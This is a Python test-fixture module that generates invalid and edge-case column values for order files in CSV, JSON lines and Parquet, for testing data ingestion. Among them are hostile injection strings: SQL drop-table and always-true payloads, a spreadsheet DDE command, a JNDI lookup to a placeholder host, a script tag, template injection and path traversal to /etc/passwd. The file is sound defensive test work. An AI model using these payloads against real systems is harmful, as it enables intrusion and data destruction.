"""Texts that are invalid values of their column, in CSV, JSON lines and Parquet."""

from __future__ import annotations

from collections.abc import Iterable, Iterator

from broken_files.shape import ROWS, WRITERS, Broken, orders

ACCEPTED, UNREADABLE = "accepted", "unreadable"
LONG = 2000  # bytes; longer texts are unreadable

AMOUNTS = {
    "missing_amount": {"empty": "", "blank": "   "},
    UNREADABLE: {
        "nan": "NaN", "infinity": "Infinity", "minus inf": "-inf", "null word": "null", "not available": "N/A",
        "dash": "-", "division by zero": "#DIV/0!", "words": "twelve", "decimal comma": "12,50",
        "german thousands": "1.234,50", "english thousands": "1,234.50", "dollar": "$12", "pounds": "12 GBP",
        "two points": "12.5.0", "two signs": "--5", "fraction": "1/2", "percent": "5%", "two minuses": "(-5.00)",
        "hexadecimal": "0x1F", "devanagari": "१२", "hard space": "12\u00a0000", "truth": "true", "overflow": "1e400",
        "29 digits": "9" * 29, "14 digits": "1" + "0" * 13, "minus 14 digits": "-1" + "0" * 13,
        "exponent": "1e5", "tiny": "1E-12", "underscores": "1_000",
        "formula": "=1+1", "formula with plus": "+A1", "formula with at": "@SUM(A1)",
        "sql": "1; drop table raw.batches", "sql comment": "5'--", "an amount of 10 MB": "9" * 10_000_000,
    },
    ACCEPTED: {
        "negative": "-12.50", "zero": "0", "minus zero": "-0", "plus": "+5", "no leading digit": ".5",
        "13 digits": "9" * 13, "minus 13 digits": "-" + "9" * 13, "accountant's minus": "(5.00)", "minus after": "5-",
        "the warehouse's currency": "12 EUR", "its sign": "€12",
        "14 decimals": "0.12345678901234", "leading zeros": "00012",
    },
}  # fmt: skip
TIMES = {
    "missing_time": {"empty": "", "blank": "  "},
    UNREADABLE: {
        "30 February": "2024-02-30", "29 February of a common year": "2023-02-29", "month 13": "2024-13-01",
        "month 0": "2024-00-10", "day 32": "2024-01-32", "zeros": "0000-00-00 00:00:00", "year 1": "0001-01-01",
        "a sheet's zero": "1899-12-30", "the epoch": "1970-01-01", "the end": "9999-12-31", "year 2200": "2200-01-01",
        "year 290000": "290000-01-01", "minus year": "-2024-01-01", "before Christ": "2024-01-01 (BC)",
        "infinity": "infinity", "minus infinity": "-infinity", "epoch word": "epoch", "now": "now", "nan": "NaN",
        "day first": "01/02/2024", "dots": "01.02.2024", "unix seconds": "1704067200",
        "unix milliseconds": "1704067200000", "a sheet's number": "45292", "no dashes": "20240101",
        "hour 25": "2024-01-01 25:00:00", "minute 61": "2024-01-01 10:61:00", "leap second": "2024-06-30 23:59:60",
        "afternoon": "2024-01-01 10:00 PM", "unknown zone": "2024-01-01 10:00:00 CEST",
        "offset of 99 hours": "2024-01-01 10:00:00+99:99", "offset of 25 hours": "2024-01-01 10:00:00 +2500",
        "month's name": "Jan 5, 2024", "null word": "null", "sql": "'; drop table raw.batches; --",
    },
    ACCEPTED: {
        "utc": "2024-01-05T10:00:00Z", "offset": "2024-01-05T10:00:00+02:00", "offset without colon":
        "2024-01-05 10:00:00 -0500", "zone": "2024-01-05 10:00:00 Europe/Berlin", "an hour that is not":
        "2024-03-31 02:30:00 Europe/Berlin", "leap day": "2024-02-29", "the last year": "2199-12-31 23:59:59",
        "the first year": "1971-01-01", "no leading zero": "2024-1-5", "slashes": "2024/01/05",
        "nanoseconds": "2024-01-05 10:00:00.123456789", "midnight as 24": "2024-01-05 24:00:00",
    },
}  # fmt: skip
NAMES = {
    UNREADABLE: {"one byte too long": "a" * (LONG + 1), "too long in bytes": "é" * 1500, "nul": "ann\0bob"},
    ACCEPTED: {
        "as long as can be": "b" * LONG, "null word": "NULL", "sql": "'; drop table pii.customers; --",
        "sql truth": "' or '1'='1", "two lines": "ann\nbob", "quote": 'ann "bob"', "emoji": "🛒🛒",
        "formula": "=1+1",
    },
}  # fmt: skip
TEXTS = {
    UNREADABLE: {"10 MB": "x" * 10_000_000, "too long in lines": "x\n" * 1000 + "y", "nul alone": "\0"},
    ACCEPTED: {
        "formula": "=1+1", "command": "=cmd|' /C calc'!A0", "plus": "+1+1", "minus": "-1+1", "at": "@SUM(1+1)",
        "link": '=HYPERLINK("http://x","y")', "tab before": "\t=1+1", "sql": "'; drop table raw.order_lines; --",
        "placeholder": "$1 %s {0} :name ?", "template": "{{ 7 * 7 }}{% raw %}", "lookup": "${jndi:ldap://x}",
        "script": "<script>alert(1)</script>", "path": "../../etc/passwd", "copy's null": "\\N", "copy's end": "\\.",
        "terminal": "\x1b[31mred\x07", "windows line end": "a\r\nb", "quotes": '""a"" "',
        "one quote": '"', "backslash": "a\\", "comma": "a,b,,", "mark": "\ufeffpen", "line separator": "a\u2028b",
        "no character": "a\uffffb", "combining": "e\u0301" * 50, "ideographs": "商品" * 100,
        "fits in bytes": "é" * (LONG // 2), "right to left": "\u202eevil",
    },
}  # fmt: skip
COLUMNS = {
    "amount": AMOUNTS,
    "ordered_at": TIMES,
    "customer_id": {"missing_customer": {"empty": "", "blank": "  "}, **NAMES},
    "order_id": {"missing_order": {"empty": ""}, **NAMES},
    "product_name": TEXTS,
}
HELD = ("customer_id", "order_id", "product_name")  # columns that store their texts unchanged
# The cases alternate between one wrong row, all rows wrong, and two.
TURNS = (("csv", [1]), ("jsonl", range(ROWS)), ("parquet", [0, 4]))


def kinds() -> Iterator[Broken]:
    number = 0
    for column, verdicts in COLUMNS.items():
        for verdict, texts in verdicts.items():
            for name, text in texts.items():
                yield _kind(column, name, text, verdict, *TURNS[number % 3])
                number += 1


def _kind(column: str, name: str, text: str, verdict: str, ending: str, broken: Iterable[int]) -> Broken:
    big = len(text) > 1_000_000
    broken = list(broken)[:1] if big else list(broken)
    rows = orders()
    for number in broken:
        rows[number][column] = text
    becomes = {"accepted": ROWS - len(broken)}
    becomes[verdict] = becomes.get(verdict, 0) + len(broken)
    held = (column, text, len(broken)) if verdict == ACCEPTED and column in HELD else None
    return Broken(f"{column}: {name}, {ending}", f"orders.{ending}", WRITERS[ending](rows), becomes, held)
